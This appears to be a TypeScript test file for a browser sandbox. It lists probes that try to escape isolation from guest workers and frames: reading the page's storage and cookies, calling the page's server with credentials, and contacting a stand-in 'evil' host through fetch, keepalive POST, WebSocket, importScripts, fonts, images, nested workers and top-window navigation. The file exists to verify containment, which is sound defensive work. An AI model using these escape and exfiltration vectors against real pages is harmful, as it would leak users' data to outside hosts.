/** Where a probe runs: a worker and a document of the page's origin without policy (the control), or the guest. */
export type Place = 'control' | 'guestWorker' | 'guestFrame';

export interface ProbeContext {
  readonly app: string;
  readonly evil: string;
  readonly who: string;
}

/**
 * One row of the isolation table: code that tries to reach something, and what it must find in each place.
 * `run` is sent as text into the place, so it may use nothing from outside itself. It gives `reached` or
 * `reached …` where it got through; a throw, a rejection or silence for 1.5 s is `blocked`.
 */
export interface Probe {
  readonly title: string;
  readonly run: (context: ProbeContext) => unknown;
  /** `reached`, `blocked`, or the exact answer. A place that is absent is not asked. */
  readonly expected: Partial<Record<Place, string>>;
}

/** A probe as text that settles in any place: an answer, or `blocked` for a throw, a rejection or silence. */
export function probeText(probe: Probe, context: ProbeContext): string {
  return `(async () => {
    const silence = new Promise((resolve) => setTimeout(() => resolve('blocked'), 1500));
    try { return String(await Promise.race([Promise.resolve((${probe.run.toString()})(${JSON.stringify(context)})), silence])); }
    catch { return 'blocked'; }
  })()`;
}

const nowhere = { control: 'reached', guestWorker: 'blocked', guestFrame: 'blocked' };
const both = { guestWorker: 'blocked', guestFrame: 'blocked' };

export const probes: readonly Probe[] = [
  {
    title: 'its origin is opaque',
    run: () => self.origin,
    expected: { guestWorker: 'null', guestFrame: 'null' },
  },
  {
    title: "the page's IndexedDB",
    run: () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('spillway-probe');
        request.onsuccess = () => resolve('reached');
        request.onerror = () => reject(request.error);
      }),
    expected: nowhere,
  },
  {
    title: 'the list of databases',
    run: () => indexedDB.databases().then(() => 'reached'),
    expected: nowhere,
  },
  { title: 'local storage', run: () => `reached ${self.localStorage.length}`.slice(0, 7), expected: both },
  {
    title: 'session storage',
    run: () => `reached ${self.sessionStorage.length}`.slice(0, 7),
    expected: both,
  },
  {
    title: 'cookies',
    run: () => (typeof document.cookie === 'string' ? 'reached' : 'blocked'),
    expected: both,
  },
  { title: 'the cookie store', run: () => cookieStore.getAll().then(() => 'reached'), expected: both },
  { title: 'caches', run: () => caches.keys().then(() => 'reached'), expected: nowhere },
  {
    title: 'the private file system',
    run: () => navigator.storage.getDirectory().then(() => 'reached'),
    expected: nowhere,
  },
  { title: 'web locks', run: () => navigator.locks.query().then(() => 'reached'), expected: nowhere },
  {
    title: "the page's server, with credentials",
    run: ({ app, who }) => fetch(`${app}?probe=${who}`, { credentials: 'include' }).then(() => 'reached'),
    expected: nowhere,
  },
  {
    title: "the page's server, without CORS",
    run: ({ app, who }) => fetch(`${app}?probe=${who}`, { mode: 'no-cors' }).then(() => 'reached'),
    expected: nowhere,
  },
  {
    title: 'a foreign server',
    run: ({ evil, who }) => fetch(`${evil}/${who}/fetch`).then(() => 'reached'),
    expected: nowhere,
  },
  {
    title: 'a foreign server, kept alive past the end',
    run: ({ evil, who }) =>
      fetch(`${evil}/${who}/keepalive`, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }).then(
        () => 'reached',
      ),
    expected: nowhere,
  },
  {
    title: 'a foreign server by synchronous request',
    run: ({ evil, who }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/${who}/xhr`, false);
      request.send();
      return 'reached';
    },
    expected: nowhere,
  },
  {
    title: 'an event source',
    run: ({ evil, who }) =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${evil}/${who}/events`);
        source.onopen = () => resolve('reached');
        source.onerror = () => reject(new Error('refused'));
      }),
    expected: both,
  },
  {
    title: 'a web socket',
    run: ({ evil, who }) =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${evil.replace('http', 'ws')}/${who}/socket`);
        socket.onopen = () => resolve('reached');
        socket.onerror = () => reject(new Error('refused'));
      }),
    expected: both,
  },
  {
    title: 'a foreign script by importScripts',
    run: ({ evil, who }) => {
      (self as unknown as { importScripts(url: string): void }).importScripts(`${evil}/${who}/script.js`);
      return 'reached';
    },
    expected: nowhere,
  },
  {
    title: 'a foreign module',
    run: ({ evil, who }) => import(`${evil}/${who}/module.js`).then(() => 'reached'),
    expected: both,
  },
  {
    title: 'a data: module',
    run: () => import(`data:text/javascript,export default ${1}`).then(() => 'reached'),
    expected: both,
  },
  {
    title: "a worker of the page's origin",
    run: ({ app }) =>
      new Promise((resolve, reject) => {
        const worker = new Worker(`${app}probe-worker.js`);
        worker.onmessage = () => resolve('reached');
        worker.onerror = () => reject(new Error('refused'));
      }),
    expected: both,
  },
  {
    title: 'a worker from a data: URL',
    run: () =>
      new Promise((resolve, reject) => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.onmessage = () => resolve('reached');
        worker.onerror = () => reject(new Error('refused'));
      }),
    expected: nowhere,
  },
  {
    title: 'a foreign server from a worker of its own making',
    run: ({ evil, who }) =>
      new Promise((resolve) => {
        const source = `fetch('${evil}/${who}/nested').then(() => postMessage('reached'), () => postMessage('blocked'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = (event) => resolve(event.data);
      }),
    expected: nowhere,
  },
  {
    title: 'a blob: URL by fetch',
    run: () => fetch(URL.createObjectURL(new Blob(['x']))).then(() => 'reached'),
    expected: nowhere,
  },
  {
    title: 'a data: URL by fetch',
    run: () => fetch('data:text/plain,x').then(() => 'reached'),
    expected: nowhere,
  },
  {
    title: 'a foreign font',
    run: ({ evil, who }) =>
      new FontFace('x', `url(${evil}/${who}/font)`).load().then(
        () => 'reached',
        (error) => {
          // A font that arrives and cannot be read is reached as well; the request log tells the two apart.
          throw error;
        },
      ),
    expected: both,
  },
  {
    title: 'the page by broadcast channel',
    run: () =>
      new Promise((resolve) => {
        const channel = new BroadcastChannel('spillway-probe');
        channel.onmessage = () => resolve('reached');
        channel.postMessage('hello');
      }),
    expected: both,
  },
  {
    title: "the page's document through parent",
    run: () => (parent.document ? 'reached' : 'blocked'),
    expected: both,
  },
  {
    title: 'taking the top window away',
    run: ({ evil, who }) => {
      (top as Window).location.href = `${evil}/${who}/top`;
      return 'reached';
    },
    expected: { guestFrame: 'blocked' },
  },
  {
    title: 'a window of its own',
    run: ({ evil, who }) => (window.open(`${evil}/${who}/popup`) ? 'reached' : 'blocked'),
    expected: { guestFrame: 'blocked' },
  },
  {
    title: 'a peer connection',
    run: () => (typeof RTCPeerConnection === 'undefined' ? 'blocked' : 'reached'),
    expected: both,
  },
  {
    title: 'an image from a foreign server',
    run: ({ evil, who }) =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('reached');
        image.onerror = () => reject(new Error('refused'));
        image.src = `${evil}/${who}/image`;
      }),
    expected: both,
  },
];
